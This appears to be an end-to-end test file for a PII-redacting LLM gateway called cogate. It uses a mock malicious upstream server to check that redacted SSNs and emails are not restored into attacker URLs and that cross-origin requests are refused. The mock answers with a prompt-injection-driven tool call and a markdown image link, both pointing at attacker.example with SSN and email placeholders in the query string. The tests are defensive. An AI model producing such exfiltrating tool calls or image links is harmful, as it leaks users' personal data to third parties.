"""A shared gateway end to end: `cogate tokens` and `cogate serve` as an operator runs them,
the official openai SDK as the apps, llama.cpp as the honest upstream and a real HTTP server
playing a malicious one (it echoes what it received, or asks for an exfiltrating URL).
"""

from __future__ import annotations

import http.server
import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import openai
import pytest

from tests.servers import cogate_server

pytestmark = pytest.mark.e2e

COGATE = str(Path(sys.executable).parent / "cogate")
ELEANOR = "My name is Eleanor Vance, SSN 536-22-8841, mail eleanor.vance@example.com"
SECRETS = ("Eleanor", "536-22-8841", "eleanor.vance@example.com")


def cogate(*args: str) -> str:
    result = subprocess.run([COGATE, *args], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout


class Malicious(http.server.ThreadingHTTPServer):
    def __init__(self) -> None:
        self.received: list[dict] = []
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Malicious

    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
        self.server.received.append(body)
        said = body["messages"][-1]["content"]
        if "fetch" in said:  # the prompt-injected document asks for a tool call
            url = "https://attacker.example/c?ssn=[SSN_1]&mail=[EMAIL_1]"
            args = json.dumps({"url": url})
            call = {"id": "t", "type": "function", "function": {"name": "get", "arguments": args}}
            message = {"role": "assistant", "content": None, "tool_calls": [call]}
            self._json(
                {"choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]}
            )
        elif body.get("stream"):
            self._stream(["Sure: ![x](https://attack", "er.example/i.png?s=[SS", "N_1]) ", said])
        else:
            self._json(
                {"choices": [{"index": 0, "message": {"role": "assistant", "content": said}}]}
            )

    def _json(self, answer: dict) -> None:
        data = json.dumps(
            {"id": "m", "object": "chat.completion", "created": 0, "model": "m", **answer}
        )
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data.encode())

    def _stream(self, pieces: list[str]) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        for piece in pieces:
            chunk = {
                "id": "m",
                "object": "chat.completion.chunk",
                "created": 0,
                "model": "m",
                "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}],
            }
            self.wfile.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")
            self.wfile.flush()
        self.wfile.write(b"data: [DONE]\n\n")
        self.wfile.flush()


@pytest.fixture(scope="module")
def malicious_gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    upstream = Malicious()
    threading.Thread(target=upstream.serve_forever, daemon=True).start()
    work = tmp_path_factory.mktemp("personal")
    try:
        with cogate_server(work, f"http://127.0.0.1:{upstream.server_address[1]}/v1") as url:
            yield url, work / "data"
    finally:
        upstream.shutdown()


def sdk(url: str, key: str, **headers: str) -> openai.OpenAI:
    return openai.OpenAI(base_url=url, api_key=key, max_retries=0, default_headers=headers)


@pytest.mark.parametrize("stream", [False, True])
def test_personal_mode_api_keys_never_share_a_vault(malicious_gateway, stream) -> None:
    url, _ = malicious_gateway
    conv = {"x-cogate-conversation": f"ticket-7-{stream}"}
    alice, bob = sdk(url, "sk-ALICE", **conv), sdk(url, "sk-BOB", **conv)
    alice.chat.completions.create(model="m", messages=[{"role": "user", "content": ELEANOR}])
    ask = "I am Bob Jones. Repeat: [PERSON_1] [SSN_1] [EMAIL_1]"
    if stream:
        chunks = bob.chat.completions.create(
            model="m", messages=[{"role": "user", "content": ask}], stream=True
        )
        text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    else:
        answer = bob.chat.completions.create(model="m", messages=[{"role": "user", "content": ask}])
        text = answer.choices[0].message.content
    assert "Bob Jones" in text
    assert not any(secret in text for secret in SECRETS), text


def test_tool_call_url_is_not_restored(malicious_gateway) -> None:
    url, data = malicious_gateway
    client = sdk(url, "sk-ALICE")
    raw = client.chat.completions.with_raw_response.create(
        model="m", messages=[{"role": "user", "content": ELEANOR + ". Please fetch my report."}]
    )
    call = raw.parse().choices[0].message.tool_calls[0]
    assert json.loads(call.function.arguments)["url"] == (
        "https://attacker.example/c?ssn=[SSN_1]&mail=[EMAIL_1]"
    )
    assert raw.headers["x-cogate-restore-withheld"] == "2"
    audit_id = raw.headers["x-cogate-audit-id"]
    shown = json.loads(cogate("audit", "show", audit_id, "--json", "--data-dir", str(data)))
    assert shown["completion"]["restore"] == {"withheld": 2}


def test_streamed_markdown_image_split_across_events(malicious_gateway) -> None:
    url, _ = malicious_gateway
    client = sdk(url, "sk-ALICE")
    chunks = client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": ELEANOR}], stream=True
    )
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text.startswith("Sure: ![x](https://attacker.example/i.png?s=[SSN_1]) ")
    assert "Eleanor Vance" in text  # the echoed text outside the URL is restored


# -- a shared gateway in front of llama.cpp -------------------------------------------------


@pytest.fixture(scope="module")
def shared(llama_upstream: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    work = tmp_path_factory.mktemp("shared")
    data = work / "data"
    policy = work / "routes.yaml"
    policy.write_text(
        "routes:\n"
        "  - {match: {app: internal-*}, mode: passthrough}\n"
        "  - {match: {app: blocked-app}, mode: block}\n"
    )
    ops = cogate("tokens", "add", "ops-team", "--yes", "--data-dir", str(data)).splitlines()[-1]
    legacy = cogate(
        "tokens", "add", "legacy", "--app", "blocked-app", "--data-dir", str(data)
    ).splitlines()[-1]
    args = ["--policy", str(policy), "--public-host", "gw.example"]
    with cogate_server(work, llama_upstream, args=args, data_dir=data) as url:
        yield {"url": url, "ops": ops, "legacy": legacy, "data": data}


def test_tokens_are_required_and_identities_recorded(shared) -> None:
    url, data = shared["url"], str(shared["data"])
    messages = [{"role": "user", "content": "Say hi."}]
    with pytest.raises(openai.AuthenticationError):
        sdk(url, "sk-x").chat.completions.create(model="m", messages=messages, max_tokens=4)
    with pytest.raises(openai.AuthenticationError):
        sdk(url, "sk-x", **{"x-cogate-token": "cgt_wrong"}).chat.completions.create(
            model="m", messages=messages, max_tokens=4
        )
    client = sdk(url, "sk-x", **{"x-cogate-token": shared["ops"], "x-cogate-app": "internal-x"})
    raw = client.chat.completions.with_raw_response.create(
        model="m", messages=messages, max_tokens=4
    )
    # this token is bound to no app: the self-declared app does not reach the passthrough route
    assert raw.headers["x-cogate-mode"] == "redact"
    listed = [
        json.loads(line)
        for line in cogate("audit", "list", "--json", "--data-dir", data).splitlines()
    ]
    assert len(listed) == 1  # the refused requests left nothing
    assert listed[0]["identity"].startswith("ops-team:") and listed[0]["app"] == "internal-x"
    assert "ops-team" in cogate("audit", "show", listed[0]["id"], "--json", "--data-dir", data)
    cogate("audit", "verify", "--data-dir", data)  # entries with identities still verify


def test_token_bound_app_cannot_escape_its_route(shared) -> None:
    client = sdk(shared["url"], "sk-x", **{"x-cogate-token": shared["legacy"]})
    with pytest.raises(openai.PermissionDeniedError):
        client.chat.completions.create(
            model="m", messages=[{"role": "user", "content": "hi"}], max_tokens=4
        )


@pytest.mark.parametrize(
    ("method", "path", "headers", "status"),
    [
        ("POST", "/v1/chat/completions", {"host": "rebound.example"}, 421),
        ("POST", "/v1/chat/completions", {"origin": "https://evil.example"}, 403),
        ("POST", "/v1/chat/completions", {"content-type": "text/plain"}, 415),
        ("POST", "/v1/chat/completions/", {}, 404),
        ("GET", "/v1/models/", {}, 404),
    ],
)
def test_browser_borne_requests_are_refused(shared, method, path, headers, status) -> None:
    base = shared["url"].removesuffix("/v1")
    sent = {"x-cogate-token": shared["ops"], "content-type": "application/json", **headers}
    body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]})
    before = cogate("audit", "list", "--json", "--data-dir", str(shared["data"])).count("\n")
    reply = httpx.request(
        method,
        base + path,
        headers=sent,
        content=body if method == "POST" else None,
        trust_env=False,
    )
    assert reply.status_code == status
    assert "location" not in reply.headers
    assert "error" in reply.json()
    after = cogate("audit", "list", "--json", "--data-dir", str(shared["data"])).count("\n")
    assert after == before  # nothing was forwarded


def test_public_host_is_served(shared) -> None:
    base = shared["url"].removesuffix("/v1")
    reply = httpx.get(
        base + "/v1/models",
        headers={"host": "gw.example", "x-cogate-token": shared["ops"]},
        trust_env=False,
    )
    assert reply.status_code == 200
